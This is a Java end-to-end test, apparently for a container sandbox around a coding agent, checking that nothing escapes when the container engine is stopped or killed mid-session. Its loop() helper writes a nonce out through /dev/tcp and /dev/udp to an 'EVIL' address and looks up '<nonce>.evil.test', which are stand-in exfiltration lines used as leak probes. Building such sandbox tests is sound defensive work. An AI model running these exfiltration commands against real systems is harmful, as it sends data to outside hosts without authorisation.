package dev.rustyolo.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rustyolo.e2e.attack.Judge;
import dev.rustyolo.e2e.lab.Addresses;
import dev.rustyolo.e2e.lab.Lab;
import dev.rustyolo.e2e.lab.Nonce;
import dev.rustyolo.e2e.process.Output;
import dev.rustyolo.e2e.process.Program;
import dev.rustyolo.e2e.sandbox.Account;
import dev.rustyolo.e2e.sandbox.FaultTable;
import dev.rustyolo.e2e.sandbox.OtherEngine;
import dev.rustyolo.e2e.sandbox.Project;
import dev.rustyolo.e2e.sandbox.Rustyolo;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** The engine goes and comes back while a session lives (catalogue T08): another engine than the machine's. */
@ExtendWith(LabExtension.class)
final class EngineRestartTest {
    private final Lab lab;
    private final Nonce nonce = Nonce.fresh();
    private final Lab.Mark mark;

    EngineRestartTest(Lab lab) {
        this.lab = lab;
        this.mark = lab.mark();
    }

    @Test
    void theControlOfTheOthers() {
        lab.control().shell("timeout 2 bash -c '" + loop() + "'");
        lab.settle();

        assertThat(new Judge(Map.of("loop", nonce)).leaks(lab.since(mark)))
                .extracting(leak -> leak.sighting().kind())
                .contains("tcp", "udp", "question");
    }

    /** Stopped as an upgrade does, it ends the containers itself. Podman has no daemon that could. */
    @Test
    @Tag("docker")
    void anEngineThatIsStoppedEndsTheSession() {
        Output end = restart("TERM");

        FaultTable.add("the engine is stopped and started (SIGTERM)", end);
        assertThat(end.exitCode()).as(end.err()).isNotZero();
    }

    /** Killed, and told to let containers live without it, it leaves both running: the agent with its gateway. */
    @Test
    @Tag("docker")
    void anEngineThatIsKilledOpensNothing() {
        Output end = restart("KILL", "--live-restore");

        FaultTable.add("the engine is killed and started, containers live on (SIGKILL, live-restore)", end);
        // Either the agent's client or the gateway's is the first to say it.
        assertThat(end.exitCode()).as(end.err()).isIn(69, 70);
        assertThat(end.err()).contains("the next start tries again");
    }

    private Output restart(String signal, String... options) {
        try (OtherEngine engine = OtherEngine.start(options);
                Project project = Project.create(Account.unprivileged())) {
            Rustyolo typed = engine.in(Rustyolo.in(project).with("--dns-servers", Addresses.v4(Addresses.DNS)));
            try (Program session = typed.start("--", "bash", "-c", "echo ready; " + loop())) {
                session.out().await("the third round", Rustyolo.PATIENCE, "round 3"::equals);
                List<String> addresses = engine.addresses();

                engine.signal(signal);
                Output end = session.await(Rustyolo.PATIENCE);
                engine.awaitEnd();
                assertNothingGotOut(addresses);

                engine.start();
                assertNothingGotOut(addresses);
                Output next = typed.run("--", "true");
                assertThat(next.exitCode()).as(next.err()).isZero();
                assertThat(engine.containers()).isEmpty();
                assertNothingGotOut(addresses);
                return end;
            }
        }
    }

    private void assertNothingGotOut(List<String> addresses) {
        lab.settle();
        assertThat(new Judge(Map.of("loop", nonce)).leaks(lab.since(mark))).isEmpty();
        assertThat(Judge.strays(lab.since(mark), addresses, Set.of())).isEmpty();
    }

    /** What a shell can do: the image has nothing else. */
    private String loop() {
        String evil = Addresses.v4(Addresses.EVIL);
        return ("n=0; while :; do { echo %1$s >/dev/tcp/%2$s/443; echo %1$s >/dev/udp/%2$s/443; } 2>/dev/null;"
                        + " timeout 0.3 getent hosts %1$s.evil.test; n=$((n+1)); echo round $n; sleep 0.05; done")
                .formatted(nonce.text(), evil);
    }
}
